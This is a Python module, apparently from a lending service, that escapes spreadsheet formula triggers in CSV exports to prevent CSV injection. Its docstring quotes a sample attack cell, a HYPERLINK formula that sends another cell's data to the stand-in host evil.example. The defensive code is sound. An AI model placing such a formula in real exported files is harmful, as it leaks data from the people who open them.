"""CSV cells that a spreadsheet shows as text, never runs as a formula.

A cell beginning with `=`, `+`, `-` or `@` (or a tab or carriage return,
which some spreadsheets skip before looking for one) is evaluated when the
file is opened: a borrower's name, a payment note or a provider's reason like
`=HYPERLINK("https://evil.example/?"&A1,"click")` would run on a lender's
machine (CSV injection, OWASP). Such a cell gets a leading `'`, which every
spreadsheet reads as "this is text" and does not show. A plain number
(`-12.50`) is left as it is: it cannot be a formula, and a negative amount
must stay a number.

Every CSV the service writes goes through `csv_row` (activities/exports.py).
"""

from __future__ import annotations

import re
from collections.abc import Iterable

# The ASCII triggers and their full-width forms, which some spreadsheets fold.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def csv_cell(value: object) -> str:
    """The cell's text, with a leading `'` when a spreadsheet would take it for a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_row(values: Iterable[object]) -> list[str]:
    """A row for `csv.writer.writerow`, every cell through `csv_cell`."""
    return [csv_cell(value) for value in values]
